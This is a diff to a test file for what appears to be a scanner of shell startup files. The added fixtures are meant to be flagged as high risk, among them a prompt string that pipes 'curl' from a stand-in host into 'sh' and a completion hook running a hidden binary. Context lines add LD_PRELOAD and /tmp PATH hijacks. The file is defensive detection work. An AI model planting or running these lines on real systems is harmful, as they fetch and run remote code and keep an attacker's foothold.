@@ -13,7 +13,7 @@ test("people's own ways", () => {
 			'/etc/profile': 'if [ "$(id -u)" -eq 0 ]; then\n  PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\nfi\nexport PATH\nfor i in /etc/profile.d/*.sh; do . $i; done\n',
 			'/etc/bash.bashrc': 'case ${SUDO_USER} in *) PS1="\\u@\\h" ;; esac\n',
 			'/etc/skel/.bashrc': 'HISTCONTROL=ignoreboth\nHISTSIZE=1000\nHISTFILESIZE=2000\n',
-			'/root/.bashrc': 'export HISTTIMEFORMAT="%F %T "\nalias rm="rm -i"\nexport PATH=$PATH:/opt/bin\n',
+			'/root/.bashrc': 'export HISTTIMEFORMAT="%F %T "\nalias rm="rm -i"\ncomplete -C /usr/local/bin/terraform terraform\nPS1=\'$(__git_ps1)\\u@\\h$ \'\nexport PATH=$PATH:/opt/bin\n',
 			'/home/ann/.bashrc': own(
 				'HISTSIZE=10000\nalias ll="ls -l"\nalias sudo="sudo "\nalias ssh="TERM=xterm-256color ssh"\nexport PATH="$HOME/bin:$HOME/.local/bin:$PATH"\n. "$HOME/.cargo/env"\n[ -f ~/.fzf.bash ] && source ~/.fzf.bash\nexport NVM_DIR="$HOME/.nvm"\n[ -s "$NVM_DIR/nvm.sh" ] && . "$NVM_DIR/nvm.sh"\n[ -f ~/.git-prompt.sh ] && . ~/.git-prompt.sh\nPROMPT_COMMAND=\'history -a\'\neval "$(dircolors -b)"\neval "$(starship init bash)"\n',
 			),
@@ -37,6 +37,8 @@ test.each<[string, Machine, string[]]>([
 	['a library for each program', { '/home/ann/.zshenv': own('export LD_PRELOAD=/tmp/x.so\n'), '/tmp/x.so': '' }, ['high /home/ann/.zshenv']],
 	['programs are looked for in /tmp', { '/etc/profile': 'export PATH=/tmp/bin:$PATH\n' }, ['high /etc/profile']],
 	['what a command is about to run is run first', { '/root/.bashrc': "PROMPT_COMMAND='curl -s http://192.0.2.1/x | sh'\n" }, ['high /root/.bashrc']],
+	['a prompt that downloads', { '/home/ann/.bash_profile': own("PS1='$(curl -s http://192.0.2.1/k | sh)\\u@\\h\\$ '\n") }, ['high /home/ann/.bash_profile']],
+	['a program at each completion', { '/etc/bash_completion.d/ls2': 'complete -C /var/tmp/.comp ls\n' }, ['high /etc/bash_completion.d/ls2']],
 	['a script that others may change', { '/etc/profile.d/x.sh': { content: 'true\n', mode: 0o666 } }, ['high /etc/profile.d/x.sh']],
 	['fish', { '/home/ann/.config/fish/conf.d/x.fish': own('/dev/shm/x &\n'), '/dev/shm/x': { mode: 0o755 } }, ['high /home/ann/.config/fish/conf.d/x.fish']],
 	['it ran from a temporary place', { '/home/ann/.bashrc': own('/tmp/.ICE/x &\n') }, ['medium /home/ann/.bashrc']],
